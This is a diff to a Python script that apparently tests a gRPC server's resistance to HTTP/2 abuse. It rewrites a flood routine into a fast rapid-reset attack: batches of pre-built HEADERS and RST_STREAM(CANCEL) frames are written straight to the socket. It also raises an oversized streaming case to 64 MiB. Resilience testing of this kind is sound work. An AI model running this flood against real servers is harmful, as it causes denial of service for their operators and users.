@@ -64,12 +64,32 @@ GET_MACD = "/idc.Indicator/GetMACD"
 GET_MACD_GRAPH = "/idc.IndicatorGraph/GetMACDGraph"
 HEALTH_CHECK = "/grpc.health.v1.Health/Check"
 
-# What the huge-prefix streaming case offers to send: far past the server's 64 KiB receive limit
-# and past the 4 MiB stream window C-core grants up front, so that what the server lets through
-# shows whether it stops at the prefix or buffers what the prefix promises.
-STREAMED_BYTES = 32 << 20
+# What the huge-prefix streaming case offers to send: far past the server's 64 KiB receive limit,
+# past the 4 MiB stream window C-core grants up front, and past a modest memory quota, so that
+# what the server lets through shows whether it stops the message or buffers what its prefix
+# promises.
+STREAMED_BYTES = 64 << 20
 
 FRAME_TYPES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 8: "WINDOW_UPDATE"}
+
+
+def setting_name(code):
+    try:
+        return h2.settings.SettingCodes(code).name
+    except ValueError:  # gRPC's own settings, such as 0xfe03
+        return "0x%x" % code
+
+
+def headers_block(frame):
+    """The header block fragment of a raw HEADERS frame (without padding and
+    priority)."""
+    flags, payload = frame[4], frame[9:]
+    pad = 0
+    if flags & 0x08:  # PADDED
+        pad, payload = payload[0], payload[1:]
+    if flags & 0x20:  # PRIORITY
+        payload = payload[5:]
+    return payload[: len(payload) - pad]
 
 
 def grpc_frame(message, flag=0, announced=None):
@@ -262,6 +282,8 @@ class Client:
             # connection window.
             kind = FRAME_TYPES.get(frame[3], str(frame[3]))
             self.late_frames[kind] = self.late_frames.get(kind, 0) + 1
+            if frame[3] == 1:
+                self.conn.decoder.decode(headers_block(frame))
             if frame[3] == 0 and len(frame) > self.FRAME_HEADER:
                 self.conn.increment_flow_control_window(len(frame) - self.FRAME_HEADER)
                 self.flush()
@@ -432,6 +454,7 @@ def flood(target, timeout, pairs, with_request):
         "protocol_error": None,
         "window_waits": 0,
         "server_initial_window": None,
+        "server_settings": None,
     }
 
     def absorb(deadline):
@@ -458,37 +481,76 @@ def flood(target, timeout, pairs, with_request):
                 elif isinstance(event, h2.events.DataReceived):
                     conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                 elif isinstance(event, h2.events.RemoteSettingsChanged):
+                    if report["server_settings"] is None:
+                        report["server_settings"] = {
+                            setting_name(code): change.new_value for code, change in event.changed_settings.items()
+                        }
                     window = event.changed_settings.get(h2.settings.SettingCodes.INITIAL_WINDOW_SIZE)
                     if window is not None:
                         report["server_initial_window"] = window.new_value
 
+    # The server's SETTINGS first (its windows and limits), so that h2 knows them.
+    settings_by = time.monotonic() + 2.0
+    while report["server_settings"] is None and not report["connection_closed"] and time.monotonic() < settings_by:
+        absorb(time.monotonic() + 0.05)
+
+    # The flood goes out as pre-encoded frames, at the speed of the socket rather than of h2's
+    # per-stream bookkeeping, as an attacker's tool sends it. The header blocks come from h2's own
+    # HPACK encoder, so that its state stays right for the health check after the flood: once
+    # both header lists are in the encoder's dynamic table, encoding them again gives the same
+    # few bytes (indexes only) and changes nothing, so those bytes serve for every stream.
+    # The first two streams carry the blocks that fill the table; every later one, an index-only
+    # block.
+    filling = [conn.encoder.encode(h) for h in headers]
+    indexed = [conn.encoder.encode(h) for h in headers]
+    assert indexed == [conn.encoder.encode(h) for h in headers], "HPACK blocks are not stable"
+    first_stream = conn.get_next_available_stream_id()
+
+    def pair(stream_id):
+        sid = struct.pack(">I", stream_id)
+        n = (stream_id - first_stream) // 2
+        block = (filling if n < 2 else indexed)[n % 2]
+        # HEADERS with END_HEADERS, not END_STREAM.
+        frames = [struct.pack(">I", len(block))[1:] + b"\x01\x04" + sid + block]
+        if with_request:
+            # DATA with END_STREAM: the request.
+            frames.append(struct.pack(">I", len(request_frame))[1:] + b"\x00\x01" + sid + request_frame)
+        # RST_STREAM(CANCEL).
+        frames.append(b"\x00\x00\x04\x03\x00" + sid + struct.pack(">I", h2.errors.ErrorCodes.CANCEL))
+        return b"".join(frames)
+
     started = time.monotonic()
     deadline = started + timeout
-    batch = 100
+    batch = 1000
+    stream_id = first_stream
     while report["pairs_sent"] < pairs and not report["connection_closed"] and report["goaway_code"] is None:
         if time.monotonic() > deadline:
             break
-        for _ in range(min(batch, pairs - report["pairs_sent"])):
-            sid = conn.get_next_available_stream_id()
-            conn.send_headers(sid, headers[sid // 2 % 2], end_stream=False)
-            if with_request:
-                # C-core shrinks the windows it grants under load (see "window_waits").
-                while conn.local_flow_control_window(sid) < len(request_frame):
-                    report["window_waits"] += 1
-                    client.flush()
-                    absorb(min(deadline, time.monotonic() + 0.1))
-                    if report["connection_closed"] or time.monotonic() > deadline:
-                        break
-                else:
-                    conn.send_data(sid, request_frame, end_stream=True)
-            conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
-            report["pairs_sent"] += 1
-            client.forgotten_streams = sid
-        if not client.flush():
+        count = min(batch, pairs - report["pairs_sent"])
+        data_bytes = count * len(request_frame) if with_request else 0
+        # Requests count against the connection's flow-control window (each stream's own window
+        # is C-core's 4 MiB): wait for WINDOW_UPDATEs when it runs short.
+        if conn.outbound_flow_control_window < data_bytes:
+            report["window_waits"] += 1
+            absorb(min(deadline, time.monotonic() + 0.1))
+            continue
+        chunk = b"".join(pair(stream_id + 2 * i) for i in range(count))
+        try:
+            client.sock.sendall(chunk)
+        except OSError:
             report["connection_closed"] = True
             report["closed_after_pairs"] = report["pairs_sent"]
             break
+        conn.outbound_flow_control_window -= data_bytes
+        stream_id += 2 * count
+        report["pairs_sent"] += count
+        # Frames on these streams are the server's answers to calls already reset: counted, and
+        # their header blocks decoded to keep HPACK in step, but not given to h2, which never
+        # saw the streams open.
+        client.forgotten_streams = stream_id - 2
         absorb(time.monotonic())
+    # h2 opens the next stream (the health check) above the flood's.
+    conn.highest_outbound_stream_id = stream_id - 2
     report["flood_seconds"] = round(time.monotonic() - started, 3)
     report["pairs_per_second"] = round(report["pairs_sent"] / max(report["flood_seconds"], 1e-6))
 
